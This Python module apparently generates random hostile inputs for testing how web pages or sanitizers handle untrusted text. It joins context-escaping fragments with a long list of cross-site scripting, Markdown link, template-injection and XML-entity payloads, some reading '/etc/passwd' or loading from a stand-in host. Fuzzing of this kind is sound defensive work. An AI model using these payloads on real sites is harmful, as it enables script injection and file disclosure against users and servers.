"""Texts of somebody who wants a page to do what it should not: composed by chance, and from shared lists if at hand."""

from __future__ import annotations

import json
import random
from collections.abc import Sequence
from functools import cache
from pathlib import Path

SHARED = Path(__file__).resolve().parents[2] / "shared" / "payloads"
LISTS = ("xss_owasp.jsonl", "xss_payloadbox.jsonl", "xss_dompurify.jsonl", "naughty_strings.jsonl")

WAYS_OUT = (
    *(
        "",
        "",
        '"',
        "'",
        "`",
        ">",
        '">',
        "'>",
        "<!--",
        "-->",
        "--!>",
        "]]>",
        "<![CDATA[",
        "<?",
        "*/",
        "\\",
        "\\'",
        '\\"',
    ),
    *("</title>", "</script>", "</style>", "</textarea>", "</noscript>", "</template>", "</svg>", "</a></p></div>"),
    *("](", ")", "[", "<", "```\n", "~~~\n", "|", "\n\n", "\n---\n", "\n# ", "    ", "{{", "{%", "${", "#{", "&quot;"),
    *("&#34;", "&#x3c;", "\\u003c", "%3C", "%22%3E", "\u2028", "ʺ", "＜", "ſ", "\u00a0", "成都", "]]&gt;"),
)
"""What may end the place where a text stands: attribute, element, comment, script, Markdown, template."""
DEEDS = (
    *("<script>alert(1)</script>", "<ScRiPt/x>alert(1)</sCrIpT >", "<script src=//elsewhere.example/x.js></script>"),
    *("<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>"),
    *(
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<math><mi xlink:href=javascript:alert(1)>x",
    ),
    *(
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src=javascript:alert(1)>",
        "<object data=//elsewhere.example>",
    ),
    *(
        "<base href=//elsewhere.example/>",
        "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
        "<embed src=x>",
    ),
    *("<link rel=stylesheet href=//elsewhere.example/x.css>", "<style>@import '//elsewhere.example';</style>"),
    *("<form action=//elsewhere.example><button>go</button></form>", "<input autofocus onfocus=alert(1)>"),
    *("<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<body onload=alert(1)>"),
    *(
        "<a href=javascript:alert(1)>a</a>",
        "<a href='java\tscript:alert(1)'>a</a>",
        "<x style=background:url(//elsewhere.example)>",
    ),
    *(
        " onmouseover=alert(1) x=",
        " autofocus onfocus=alert(1) tabindex=1 x=",
        " style=animation-name:x onanimationstart=alert(1) ",
    ),
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:alert(1)",
        "//elsewhere.example/",
    ),
    *(
        "[a](javascript:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a]: javascript:alert(1)\n\n[a]",
        "[a](java&#115;cript:alert(1))",
    ),
    *(
        "![a](https://elsewhere.example/a.png)",
        "![a](x 'onerror=alert(1)')",
        "<javascript:alert(1)>",
        "[a](//elsewhere.example 'b\" c')",
    ),
    *(
        "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[![a](x)](javascript:alert(1))",
        "[a](\\\\elsewhere.example)",
    ),
    *(
        "{{ config }}",
        "{% include '/etc/passwd' %}",
        "{{ 7*7 }}",
        "${alert(1)}",
        "#{alert(1)}",
        "<%= 7*7 %>",
        '--8<-- "/etc/passwd"',
    ),
    *(
        "';alert(1);'",
        '";alert(1);"',
        "`;alert(1);`",
        "\\';alert(1)//",
        "alert(1)",
        "__proto__",
        "constructor",
        "</script><script>alert(1)</script>",
    ),
    *(
        "<plaintext>",
        "<xmp>",
        "<!DOCTYPE html>",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ),
)
"""What may run, load, lead away or swallow the page, once it is out."""
PIECES = (*WAYS_OUT[2:], *DEEDS)


def hostile(chance: random.Random) -> str:
    """A hostile text."""
    if (listed := payloads(*LISTS)) and chance.random() < 0.3:
        return chance.choice(listed)
    ways_out = "".join(chance.choice(WAYS_OUT) for _ in range(chance.randint(1, 3)))
    return f"{ways_out}{chance.choice(DEEDS)}{chance.choice(WAYS_OUT)}"


@cache
def payloads(*names: str) -> Sequence[str]:
    """The texts of the shared lists; none where they are not at hand."""
    paths = [SHARED / name for name in names if (SHARED / name).exists()]
    return tuple(str(json.loads(line)["payload"]) for path in paths for line in path.read_text("utf-8").splitlines())
